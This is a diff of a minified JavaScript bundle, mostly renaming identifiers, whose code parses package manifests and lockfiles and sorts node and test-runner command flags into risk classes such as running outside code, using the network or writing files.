+.markdownlint.${Xt} .markdownlint-cli2.${Xt} .markdownlintignore .markdownlintrc`,cspell:`cspell.${Xt} .cspell.${Xt} csp\
+ell.config.${Xt}`,typescript:"tsconfig.json tsconfig.*.json jsconfig.json *.tsbuildinfo",nyc:`.nycrc .nycrc.${Xt} nyc.co\
+nfig.${Dn}`,c8:".c8rc .c8rc.json",babel:`babel.config.${Xt} .babelrc .babelrc.${Xt}`,swc:".swcrc",pytest:"pytest.toml .p\
 ytest.toml pytest.ini .pytest.ini conftest.py pyproject.toml setup.cfg",tox:"tox.ini tox.toml",nox:"noxfile.py",coverage:"\
 .coveragerc",mypy:"mypy.ini .mypy.ini",ruff:"ruff.toml .ruff.toml",cargo:"Cargo.toml build.rs rust-toolchain rust-toolch\
 ain.toml clippy.toml .clippy.toml rustfmt.toml",go:"go.mod go.work .golangci.{yml,yaml,toml,json}",make:"Makefile makefi\
 le GNUmakefile *.mk",maven:"pom.xml",gradle:"{build,settings}.gradle {build,settings}.gradle.kts gradle.properties",dotnet:"\
 Directory.Build.{props,targets} *.runsettings",phpunit:"phpunit.xml phpunit.xml.dist phpunit.dist.xml",rspec:".rspec .ru\
-bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let jB;function zv(n){if(jB??=Object.
-entries(Hv).map(([t,s])=>[t,Ha(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(n))return"cargo";const e=n.slice(
-n.lastIndexOf("/")+1);return jB.find(([,t])=>t(e))?.[0]}const Uv=["dependencies","devDependencies","optionalDependencies"],
-MB=64*1024*1024,Fn=Symbol("invalid"),Ir=vr(async(n,e)=>{if(Ot(n,e).kind==="missing")return;const t=await Mi(n,e,MB);if(t===
-void 0||"unread"in t||rE(t.text))return Fn;const s=PB(()=>JSON.parse(t.text.replace(/^\uFEFF/,"")));return typeof s=="ob\
+bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let UB;function tk(n){if(UB??=Object.
+entries(ek).map(([t,s])=>[t,za(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(n))return"cargo";const e=n.slice(
+n.lastIndexOf("/")+1);return UB.find(([,t])=>t(e))?.[0]}const nk=["dependencies","devDependencies","optionalDependencies"],
+JB=64*1024*1024,Fn=Symbol("invalid"),Ir=vr(async(n,e)=>{if(Ot(n,e).kind==="missing")return;const t=await Gi(n,e,JB);if(t===
+void 0||"unread"in t||mE(t.text))return Fn;const s=HB(()=>JSON.parse(t.text.replace(/^\uFEFF/,"")));return typeof s=="ob\
 ject"&&s!==null?s:Fn}),$r=vr(async(n,e)=>{const t=e===""?"package.json":`${e}/package.json`,s=await Ir(n,t);return s===void 0||
-s===Fn?s:Jv(t,s)});async function Dn(n,e){const t=await $r(n,e);return t===Fn?void 0:t}function Jv(n,e){const t=typeof e.
-name=="string"?e.name:"";return{path:n,name:t,scripts:Za(e.scripts),binaries:new Map(Object.entries(Ki(e.bin,t)??{})),dependencies:new Set(
-Uv.flatMap(s=>[...Za(e[s]).keys()])),workspaces:Zv(e.workspaces)}}function Ki(n,e){if(typeof n=="string")return{[e.replace(
-/^@[^/]*\//,"")]:n};const t=Za(n);return t.size===0?void 0:Object.fromEntries(t)}function Za(n){return new Map(Object.entries(
-rn(n)).flatMap(([e,t])=>typeof t=="string"?[[e,t]]:[]))}function Zv(n){const e=Array.isArray(n)?n:rn(n).packages;return Array.
-isArray(e)?e.filter(t=>typeof t=="string"):[]}const xn=Rn(async n=>{const e=Wi.filter(i=>n.stat(i)!==void 0),t=Ja.find(i=>e.
-includes(i)),s=t===void 0?void 0:await Wv(n,t),r=e.filter(i=>!Ja.some(o=>o===i));return s==="unread"?{unread:[t??"",...r]}:
-t===void 0?{unread:r}:{npm:s??{path:t,packages:new Map,all:[]},unread:r}}),Wv=vr(async(n,e)=>{const t=await Mi(n,e,MB),s=t&&
-"text"in t?t.text.replace(/^\uFEFF/,""):"",r=rn(PB(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===
+s===Fn?s:sk(t,s)});async function xn(n,e){const t=await $r(n,e);return t===Fn?void 0:t}function sk(n,e){const t=typeof e.
+name=="string"?e.name:"";return{path:n,name:t,scripts:Wa(e.scripts),binaries:new Map(Object.entries(qi(e.bin,t)??{})),dependencies:new Set(
+nk.flatMap(s=>[...Wa(e[s]).keys()])),workspaces:rk(e.workspaces)}}function qi(n,e){if(typeof n=="string")return{[e.replace(
+/^@[^/]*\//,"")]:n};const t=Wa(n);return t.size===0?void 0:Object.fromEntries(t)}function Wa(n){return new Map(Object.entries(
+rn(n)).flatMap(([e,t])=>typeof t=="string"?[[e,t]]:[]))}function rk(n){const e=Array.isArray(n)?n:rn(n).packages;return Array.
+isArray(e)?e.filter(t=>typeof t=="string"):[]}const On=Rn(async n=>{const e=Ki.filter(i=>n.stat(i)!==void 0),t=Za.find(i=>e.
+includes(i)),s=t===void 0?void 0:await ik(n,t),r=e.filter(i=>!Za.some(o=>o===i));return s==="unread"?{unread:[t??"",...r]}:
+t===void 0?{unread:r}:{npm:s??{path:t,packages:new Map,all:[]},unread:r}}),ik=vr(async(n,e)=>{const t=await Gi(n,e,JB),s=t&&
+"text"in t?t.text.replace(/^\uFEFF/,""):"",r=rn(HB(()=>JSON.parse(s)));if(r.packages===void 0)return r.lockfileVersion===
 1?"unread":void 0;const i=new Map,o=[];for(const[c,l]of Object.entries(rn(r.packages))){if(c==="")continue;const[,B,d]=/^(.*?)node_modules\/((?:@[^/]+\/)?[^/]+)$/s.
-exec(c)??[],h=Kv(d??c,rn(l));B===""&&d!==void 0&&i.set(d,h),o.push(h)}return{path:e,packages:i,all:o}});function Kv(n,e){
-const t=Kn(e,"name")||n,s=Kn(e,"version"),r=Kn(e,"resolved"),i=Kn(e,"integrity"),o=Ki(e.bin,t),c=e.link===!0?{kind:"file",
-at:r.replace(/^file:/,"")}:GB(r,t,s);return{name:t,version:s,source:c,...i&&{integrity:i},...o&&{bin:o}}}const qv={kind:"\
-registry"},Yv=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,Vv=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
-Qv=/^(?:file|link|portal|workspace):(.*)$/is;function GB(n,e,t){const[,s]=Qv.exec(n)??[];return s!==void 0?{kind:"file",
-at:s}:Yv.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:/^https?:/i.test(n)?Xv(n,e,t):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
-n)||/\.t(?:ar\.)?gz$/i.test(n)?{kind:"file",at:n}:Vv.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:qv}function Xv(n,e,t){
-const s={kind:"tarball",at:n.replace(/#.*$/s,"")};if(!URL.canParse(n))return s;const{host:r,pathname:i}=new URL(n),o=ek(
+exec(c)??[],h=ok(d??c,rn(l));B===""&&d!==void 0&&i.set(d,h),o.push(h)}return{path:e,packages:i,all:o}});function ok(n,e){
+const t=Kn(e,"name")||n,s=Kn(e,"version"),r=Kn(e,"resolved"),i=Kn(e,"integrity"),o=qi(e.bin,t),c=e.link===!0?{kind:"file",
+at:r.replace(/^file:/,"")}:ZB(r,t,s);return{name:t,version:s,source:c,...i&&{integrity:i},...o&&{bin:o}}}const ak={kind:"\
+registry"},ck=/^(?:git(?:[+:@]|$)|ssh:|(?:github|gitlab|bitbucket|gist):|[^@/:]+@[^:./]+\.[^:/]+:)|\.git(?:#|$)/i,uk=/^[\w.-]+\/[\w.-]+(?:#.*)?$/,
+lk=/^(?:file|link|portal|workspace):(.*)$/is;function ZB(n,e,t){const[,s]=lk.exec(n)??[];return s!==void 0?{kind:"file",
+at:s}:ck.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:/^https?:/i.test(n)?dk(n,e,t):/^(?:\.{0,2}\/|~\/|[a-z]:[\\/])/i.test(
+n)||/\.t(?:ar\.)?gz$/i.test(n)?{kind:"file",at:n}:uk.test(n)?{kind:"git",at:n.replace(/#.*$/s,"")}:ak}function dk(n,e,t){
+const s={kind:"tarball",at:n.replace(/#.*$/s,"")};if(!URL.canParse(n))return s;const{host:r,pathname:i}=new URL(n),o=Bk(
 i),[,c]=/^\/([^/]+\/[^/]+)\/tar\.gz\//.exec(o)??[];if(r==="codeload.github.com"&&c!==void 0)return{kind:"git",at:`https:\
 //github.com/${c}`};const l=e.replace(/^@[^/]*\//,"");return o.endsWith(`/${e}/-/${l}-${t}.tgz`)||o.endsWith(`/${e}/-/${e}\
--${t}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${t}/`)?{kind:"registry",at:r}:s}function ek(n){try{
-return decodeURIComponent(n)}catch{return n}}function tk(n){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(n)??[];
-return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const Wa=Fi({harmless:`
+-${t}.tgz`)||r==="npm.pkg.github.com"&&o.startsWith(`/download/${e}/${t}/`)?{kind:"registry",at:r}:s}function Bk(n){try{
+return decodeURIComponent(n)}catch{return n}}function fk(n){const[,e]=/^npm:((?:@[^/@]+\/)?[^@]+)(?:@.*)?$/s.exec(n)??[];
+return e===void 0||/^[\^~<>=*v\d]/.test(e)?void 0:e}const Ka=Pi({harmless:`
     addons async-context-frame debug-arraybuffer-allocations deprecation disable-proto=
     disable-sigusr1 disable-warning= disallow-code-generation-from-strings dns-result-order=
     enable-fips enable-source-maps experimental-abortcontroller experimental-detect-module
@@ -4099,99 +4123,99 @@ ers
     watch watch-path=
   `,"writes-files":`
     cpu-prof heap-prof prof report-on-fatalerror test-update-snapshots
-  `}),nk=new Map(`
+  `}),hk=new Map(`
   -c=check -C=conditions -e=eval -h=help -i=interactive -p=print -pe=print -r=require -v=version
   debug-port=inspect-port enable-network-family-autoselection=network-family-autoselection
   experimental-default-config-file=experimental-config-file experimental-strip-types=strip-types
   experimental-test-isolation=test-isolation loader=experimental-loader
   security-reverts=security-revert
-  `.trim().split(/\s+/).map(n=>n.split("="))),sk=new Set("dot junit lcov spec tap".split(" ")),HB=new Set(`
+  `.trim().split(/\s+/).map(n=>n.split("="))),pk=new Set("dot junit lcov spec tap".split(" ")),WB=new Set(`
   @swc-node/register dotenv/config esbuild-register source-map-support/register ts-node/esm
   ts-node/register ts-node/register/transpile-only tsx tsx/cjs tsx/esm
-  `.match(/\S+/g)),rk=new Set(`
+  `.match(/\S+/g)),mk=new Set(`
   @babel/polyfill @babel/register @istanbuljs/esm-loader-hook @swc/register core-js/stable esm
   reflect-metadata regenerator-runtime/runtime ts-node ts-node/register/files tsconfig-paths/register
-  `.match(/\S+/g)),ik=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);function zB(n){const e=[],t=[],s=[],r=new Set;
-for(const g of xB(n,ok).tokens){if(g.kind==="operand"){s.push(g.word);continue}if(g.kind==="unknown"){const x={program:"\
-node",flag:g.written};t.push(et("unknown-flag",g.word.span,x));continue}const{spec:C,negated:y}=g.part,_=ck(g);e.push(_);
-const k=uk(C,y,_.value);if(k!==void 0&&t.push(lk(_,k)),y)continue;r.add(C.kind);const E=Bk(C,_);E!==void 0&&t.push(Ui(E,
-"node",_))}const i=qi({flags:e}),o=i?s.length:r.has("evaluates")?0:1,c=s.slice(0,o),l=s.slice(o),B=i||r.has("only-prints")||
-r.has("evaluates"),d=fk(c,i,n);d!==void 0&&!(B&&c.length===0)&&t.push(d);const h=TB(l);return h!==void 0&&t.push(Ji("nod\
-e",h)),{invocation:{program:"node",flags:e,operands:c,passthrough:l},problems:t}}const ok={flags:"first",equals:"long",expand:n=>{
-const e=n.startsWith("--"),t=e?n.slice(2).replaceAll("_","-"):n,s=t.startsWith("no-")&&!Wa.has(t),r=s?t.slice(3):t,i=Wa.
-get(nk.get(r)??(e?r:""));return i&&[{spec:i,negated:s,takes:s?"never":ak(i)}]}};function ak({name:n,arity:e}){return n===
-"print"?"unless-dash":e==="value"?"always":"never"}function ck(n){const{spec:e,negated:t}=n.part;return{name:`--${t?"no-":
-""}${e.name}`,written:n.written,...iv(n)}}function uk({name:n,arity:e},t,s){if(e==="value")return SB(s,t);if(t)return s===
+  `.match(/\S+/g)),gk=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);function KB(n){const e=[],t=[],s=[],r=new Set;
+for(const g of IB(n,Ck).tokens){if(g.kind==="operand"){s.push(g.word);continue}if(g.kind==="unknown"){const x={program:"\
+node",flag:g.written};t.push(et("unknown-flag",g.word.span,x));continue}const{spec:C,negated:y}=g.part,_=wk(g);e.push(_);
+const k=bk(C,y,_.value);if(k!==void 0&&t.push(_k(_,k)),y)continue;r.add(C.kind);const E=vk(C,_);E!==void 0&&t.push(Ji(E,
+"node",_))}const i=Yi({flags:e}),o=i?s.length:r.has("evaluates")?0:1,c=s.slice(0,o),l=s.slice(o),B=i||r.has("only-prints")||
+r.has("evaluates"),d=kk(c,i,n);d!==void 0&&!(B&&c.length===0)&&t.push(d);const h=FB(l);return h!==void 0&&t.push(Zi("nod\
+e",h)),{invocation:{program:"node",flags:e,operands:c,passthrough:l},problems:t}}const Ck={flags:"first",equals:"long",expand:n=>{
+const e=n.startsWith("--"),t=e?n.slice(2).replaceAll("_","-"):n,s=t.startsWith("no-")&&!Ka.has(t),r=s?t.slice(3):t,i=Ka.
+get(hk.get(r)??(e?r:""));return i&&[{spec:i,negated:s,takes:s?"never":yk(i)}]}};function yk({name:n,arity:e}){return n===
+"print"?"unless-dash":e==="value"?"always":"never"}function wk(n){const{spec:e,negated:t}=n.part;return{name:`--${t?"no-":
+""}${e.name}`,written:n.written,...gv(n)}}function bk({name:n,arity:e},t,s){if(e==="value")return NB(s,t);if(t)return s===
 void 0?void 0:"a `--no-` flag takes no value";if(e!=="none")return s?void 0:"its value is missing";const r=n==="print"||
-/^(?:inspect|debug$|debug-brk$)/.test(n);return s===void 0||r?void 0:"it takes no value"}function lk(n,e){return et("fla\
-g-value",n.span,{program:"node",flag:n.written,fault:e})}function qi({flags:n}){return n.findLast(({name:e})=>e==="--tes\
-t"||e==="--no-test")?.name==="--test"}const dk=/\.(?:info|lcov|log|tap|txt|xml)$/;function Bk(n,{value:e=""}){switch(n.kind){case"\
-harmless":return;case"reports-tests":return sk.has(e)?void 0:"outside-code";case"tolerates-rejections":return e==="warn"||
-e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e==="stderr"?void 0:dk.test(e)&&!Es(e)?"tool-writes":
-"writes-files";case"evaluates":return"outside-code";case"preloads":return HB.has(e)?"tool-runs-file":"outside-code";default:
-return n.kind}}function fk(n,e,t){const[s]=n;if(s===void 0){const o=t.at(-1)?.span.end??0;return e?void 0:et("reads-stdi\
-n",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(ik.has(r))return et("reads-stdin",i,{program:"nod\
+/^(?:inspect|debug$|debug-brk$)/.test(n);return s===void 0||r?void 0:"it takes no value"}function _k(n,e){return et("fla\
+g-value",n.span,{program:"node",flag:n.written,fault:e})}function Yi({flags:n}){return n.findLast(({name:e})=>e==="--tes\
+t"||e==="--no-test")?.name==="--test"}const Ek=/\.(?:info|lcov|log|tap|txt|xml)$/;function vk(n,{value:e=""}){switch(n.kind){case"\
+harmless":return;case"reports-tests":return pk.has(e)?void 0:"outside-code";case"tolerates-rejections":return e==="warn"||
+e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e==="stderr"?void 0:Ek.test(e)&&!vs(e)?"tool-writes":
+"writes-files";case"evaluates":return"outside-code";case"preloads":return WB.has(e)?"tool-runs-file":"outside-code";default:
+return n.kind}}function kk(n,e,t){const[s]=n;if(s===void 0){const o=t.at(-1)?.span.end??0;return e?void 0:et("reads-stdi\
+n",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(gk.has(r))return et("reads-stdin",i,{program:"nod\
 e",flag:r});if(r.startsWith("-"))return et("outside-code",i,{program:"node",flag:`-- ${r}`});if(r==="inspect"||!e&&r==="\
-debug")return et("outside-code",i,{program:"node",flag:r})}const Ka={problems:[]};function Yi(n,e,t){const{word:s,flag:r,
-value:i="",written:o,off:c}=t;if(r===void 0)return vk(n,e,t);const l=y=>qa(y,n,t),{choices:B}=r;if(B?.every(y=>!hk(y,i.replace(
-/\s+/g,""))))return{problems:[l("unknown-flag")]};if(c)return Ka;if(r.kind==="node")return ZB(s,Ek(n,i));const{rule:d,...h}=AB(
-r.kind)?{rule:r.kind}:pk(n,t,e.stops===!0),g=vs(o)||Zi(o),C=d??(g?"outside-code":void 0);return{...i===""?{}:h,problems:C?
-[l(C)]:[]}}function hk(n,e){const[t="",s]=n.split("~");if(s===void 0)return e===n;const r=e.slice(t.length,e.length-s.length);
-return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${t}${r}${s}`}function qa(n,e,{word:{text:t,span:s},written:r,value:i=""}){const o=t===
-r&&i!==""?`${r} ${i}`:t;return Ui(n,e,{name:r,written:o,span:s,value:i})}function pk(n,e,t){const{word:s,flag:r,written:i,
+debug")return et("outside-code",i,{program:"node",flag:r})}const qa={problems:[]};function Vi(n,e,t){const{word:s,flag:r,
+value:i="",written:o,off:c}=t;if(r===void 0)return Fk(n,e,t);const l=y=>Ya(y,n,t),{choices:B}=r;if(B?.every(y=>!Dk(y,i.replace(
+/\s+/g,""))))return{problems:[l("unknown-flag")]};if(c)return qa;if(r.kind==="node")return VB(s,Nk(n,i));const{rule:d,...h}=RB(
+r.kind)?{rule:r.kind}:xk(n,t,e.stops===!0),g=ks(o)||Wi(o),C=d??(g?"outside-code":void 0);return{...i===""?{}:h,problems:C?
+[l(C)]:[]}}function Dk(n,e){const[t="",s]=n.split("~");if(s===void 0)return e===n;const r=e.slice(t.length,e.length-s.length);
+return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${t}${r}${s}`}function Ya(n,e,{word:{text:t,span:s},written:r,value:i=""}){const o=t===
+r&&i!==""?`${r} ${i}`:t;return Ji(n,e,{name:r,written:o,span:s,value:i})}function xk(n,e,t){const{word:s,flag:r,written:i,
 value:o=""}=e,{span:c}=s,l=r?.kind??"text";switch(l){case"choice":return{};case"tests":return{files:[{as:"tests",path:o,
-span:c}]};case"path":{const B=Bt(o)===void 0?"outside-code":void 0,d=Es(o)?[]:[{as:"place",path:o,span:c}];return{rule:B,
-files:d,root:o}}case"config":return Es(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"config",path:o,span:c}]};case"\
-output":{const B=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(B)?{}:Es(B)?{rule:"writes\
--files"}:{rule:"tool-writes",files:[{as:"place",path:B,span:c}]}}case"code":case"preload":{const B=l==="code"?UB(o,t):yk(
-o,t),d=qa("tool-runs-file",n,e);return{rule:B,files:wk(o).map(h=>bk(h,c,d,l))}}case"module":{const B=o.split(":").filter(
-C=>/^\w+(?:\.\w+)*$/.test(C)),d=new Set(B.flatMap(C=>[C,C.replace(/\.\w+$/,"")]).flatMap(Ya)),h=qa("tool-runs-file",n,e);
-return{rule:vs(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...d].map(C=>({as:"module",path:C,span:c,ifFile:h}))}}default:{
-const B=Zi(o)&&!Ck(i,o);return{rule:vs(o)||B||mk.test(o)?"outside-code":void 0}}}}const mk=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,
-gk=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;function Ck(n,e){return gk.
-test(n)||n==="-t"&&!e.includes(":")}function UB(n,e){if(Es(n)||/[\s(){};`]/.test(n))return"outside-code";if(n.split(",").
-some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function yk(n,e){return HB.has(n)||rk.has(
-n)?"tool-runs-file":e?"outside-code":UB(n,e)??"tool-runs-file"}function wk(n){return n.split(",").filter(t=>t!==""&&!Es(
-t)).map(t=>t.replace(/^<rootDir>\//,"./"))}function bk(n,e,t,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.test(n)?{as:"co\
-de",path:n,span:e}:{as:"module",path:n,span:e,ifFile:t,first:s==="preload"}}function Ya(n){const e=n.replaceAll(".","/");
-return["","src/"].flatMap(t=>[".py","/__main__.py","/__init__.py"].map(s=>`${t}${e}${s}`))}function _k(n){const[,e="",t=""]=/^(\w+)[=:](.*)$/s.
-exec(n)??[];return e!==""&&Ea(e,t)}function Ek(n,e){return/^(?:_?mocha|deno)$/.test(n)?e.split(",").map(t=>t.startsWith(
-"-")?t:`--${t}`):n==="ava"?qn(e).words.map(({text:t})=>t):[e]}const JB="x.js";function ZB({span:n},e){const t=[...e,JB,JB].
-map(i=>({text:i,span:n,quoted:!1})),{invocation:s,problems:r}=zB(t);return{problems:r,nodeFlags:s.flags}}function vk(n,{
+span:c}]};case"path":{const B=Bt(o)===void 0?"outside-code":void 0,d=vs(o)?[]:[{as:"place",path:o,span:c}];return{rule:B,
+files:d,root:o}}case"config":return vs(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"config",path:o,span:c}]};case"\
+output":{const B=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(B)?{}:vs(B)?{rule:"writes\
+-files"}:{rule:"tool-writes",files:[{as:"place",path:B,span:c}]}}case"code":case"preload":{const B=l==="code"?qB(o,t):Tk(
+o,t),d=Ya("tool-runs-file",n,e);return{rule:B,files:Ik(o).map(h=>$k(h,c,d,l))}}case"module":{const B=o.split(":").filter(
+C=>/^\w+(?:\.\w+)*$/.test(C)),d=new Set(B.flatMap(C=>[C,C.replace(/\.\w+$/,"")]).flatMap(Va)),h=Ya("tool-runs-file",n,e);
+return{rule:ks(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...d].map(C=>({as:"module",path:C,span:c,ifFile:h}))}}default:{
+const B=Wi(o)&&!Sk(i,o);return{rule:ks(o)||B||Ok.test(o)?"outside-code":void 0}}}}const Ok=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,
+Ak=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;function Sk(n,e){return Ak.
+test(n)||n==="-t"&&!e.includes(":")}function qB(n,e){if(vs(n)||/[\s(){};`]/.test(n))return"outside-code";if(n.split(",").
+some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function Tk(n,e){return WB.has(n)||mk.has(
+n)?"tool-runs-file":e?"outside-code":qB(n,e)??"tool-runs-file"}function Ik(n){return n.split(",").filter(t=>t!==""&&!vs(
+t)).map(t=>t.replace(/^<rootDir>\//,"./"))}function $k(n,e,t,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.test(n)?{as:"co\
+de",path:n,span:e}:{as:"module",path:n,span:e,ifFile:t,first:s==="preload"}}function Va(n){const e=n.replaceAll(".","/");
+return["","src/"].flatMap(t=>[".py","/__main__.py","/__init__.py"].map(s=>`${t}${e}${s}`))}function Rk(n){const[,e="",t=""]=/^(\w+)[=:](.*)$/s.
+exec(n)??[];return e!==""&&va(e,t)}function Nk(n,e){return/^(?:_?mocha|deno)$/.test(n)?e.split(",").map(t=>t.startsWith(
+"-")?t:`--${t}`):n==="ava"?qn(e).words.map(({text:t})=>t):[e]}const YB="x.js";function VB({span:n},e){const t=[...e,YB,YB].
+map(i=>({text:i,span:n,quoted:!1})),{invocation:s,problems:r}=KB(t);return{problems:r,nodeFlags:s.flags}}function Fk(n,{
 stops:e,handsOn:t,data:s={}},{word:r,value:i=""}){const o=c=>({problems:[At(c,n,r)]});if(t){const c=r.text.includes("=")||
-i===""?[]:[i],l=ZB(r,[r.text,...c]);if(!l.problems.some(({rule:B})=>B==="unknown-flag"))return l}return e?o("unknown-fla\
-g"):s.starts==="npm-scripts"&&r.text.includes("=")?Ka:vs(i)||Zi(i)?o("outside-code"):s.unknown?Ka:o("unknown-flag")}function kk(n,e,t){
-const[s]=t;if(s===void 0)return[];const r=t.find(({text:o})=>e.readsBehind&&WB(e,o)!==void 0);return(e.data.variables?t:
-[r??s]).flatMap(o=>{const c=WB(e,o.text);return c===void 0?[]:[At(c,n,o)]})}function WB({refused:n,data:e},t){const s=e.
-ends_with?.split(" ");if(s?.includes(t))return;const r=o=>wa(n,qs(o))?.kind,i=t.split(":").some(o=>r(o)==="never-ends");
-return r(t)??(s||i?"never-ends":void 0)}function Dk(n,{data:{variables:e,operands:t="path"}},s){return s.flatMap(r=>{const i=e===
-void 0?[]:Tk(n,e,r);if(i.length>0)return i;const o=Va(t,r.text);return o===void 0?[]:[At(o,n,r)]})}function Va(n,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.
-test(e))return n==="text"&&xk.test(e)?void 0:"uses-network";switch(n){case"import":return e.includes("@")?"uses-network":
-Bt(e)===void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":vs(e)||Zi(e)?"outside-code":void 0;case"pat\
+i===""?[]:[i],l=VB(r,[r.text,...c]);if(!l.problems.some(({rule:B})=>B==="unknown-flag"))return l}return e?o("unknown-fla\
+g"):s.starts==="npm-scripts"&&r.text.includes("=")?qa:ks(i)||Wi(i)?o("outside-code"):s.unknown?qa:o("unknown-flag")}function Pk(n,e,t){
+const[s]=t;if(s===void 0)return[];const r=t.find(({text:o})=>e.readsBehind&&QB(e,o)!==void 0);return(e.data.variables?t:
+[r??s]).flatMap(o=>{const c=QB(e,o.text);return c===void 0?[]:[At(c,n,o)]})}function QB({refused:n,data:e},t){const s=e.
+ends_with?.split(" ");if(s?.includes(t))return;const r=o=>ba(n,qs(o))?.kind,i=t.split(":").some(o=>r(o)==="never-ends");
+return r(t)??(s||i?"never-ends":void 0)}function Lk(n,{data:{variables:e,operands:t="path"}},s){return s.flatMap(r=>{const i=e===
+void 0?[]:zk(n,e,r);if(i.length>0)return i;const o=Qa(t,r.text);return o===void 0?[]:[At(o,n,r)]})}function Qa(n,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.
+test(e))return n==="text"&&jk.test(e)?void 0:"uses-network";switch(n){case"import":return e.includes("@")?"uses-network":
+Bt(e)===void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":ks(e)||Wi(e)?"outside-code":void 0;case"pat\
 h":case"tests":{if(e==="-")return"reads-stdin";if(e.startsWith("@"))return"outside-code";const t=e.replace(/^!|::.*$/gs,
-"");return Bt(t)===void 0||vs(e)?"outside-code":void 0}}}const xk=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
-function Ok({data:n},e){const{operands:t="path"}=n;return e.flatMap(({text:s,span:r})=>{if(Va(t,s)!==void 0)return[];const i=(t===
+"");return Bt(t)===void 0||ks(e)?"outside-code":void 0}}}const jk=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
+function Mk({data:n},e){const{operands:t="path"}=n;return e.flatMap(({text:s,span:r})=>{if(Qa(t,s)!==void 0)return[];const i=(t===
 "import"||n.starts==="package")&&s.endsWith(".go");if(t==="tests"||i)return[{as:"tests",path:s.replace(/^!|::.*$|:[\d,*-]+$/gs,
-""),span:r}];const o=Bt(s);return o&&!sn(o,".git",{ignoreCase:!0})&&!Es(s)?[{as:"place",path:s,span:r}]:[]})}const Ak=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
-Sk=/[$`;&|<>(){}\s]/;function Tk(n,e,t){const{text:s,span:r}=t,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
-!e.includes(o)?[et("make-variable",r,{program:n,variable:o})]:(i?Ak.test(s):!Sk.test(s))?[]:[At("outside-code",n,t)]}function Ik(n,{
+""),span:r}];const o=Bt(s);return o&&!sn(o,".git",{ignoreCase:!0})&&!vs(s)?[{as:"place",path:s,span:r}]:[]})}const Gk=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
+Hk=/[$`;&|<>(){}\s]/;function zk(n,e,t){const{text:s,span:r}=t,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
+!e.includes(o)?[et("make-variable",r,{program:n,variable:o})]:(i?Gk.test(s):!Hk.test(s))?[]:[At("outside-code",n,t)]}function Uk(n,{
 program:e,words:t,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:B})=>B?.kind==="only-prints"||B?.kind==="outsid\
 e-code"),c=B=>s.start(B,e),l=(()=>{switch(n){case"node":return o?[]:[c({program:"node",words:i})];case"command":return o?
-[]:[$k(e,t,i,c)];case"command-texts":return i.map(B=>Nk(e,B,c));case"npm-scripts":{const B=r.flatMap(({flag:d,word:h})=>d===
-void 0?[h]:[]);return i.map(d=>Fk(e,d,B,c))}default:return[]}})();return{invocation:{launched:l.flatMap(B=>B.launched)},
-problems:l.flatMap(B=>B.problems)}}function $k(n,e,t,s){const{words:r,problems:i}=n==="cross-env"?Rk(t):{words:t,problems:[]},
+[]:[Jk(e,t,i,c)];case"command-texts":return i.map(B=>Wk(e,B,c));case"npm-scripts":{const B=r.flatMap(({flag:d,word:h})=>d===
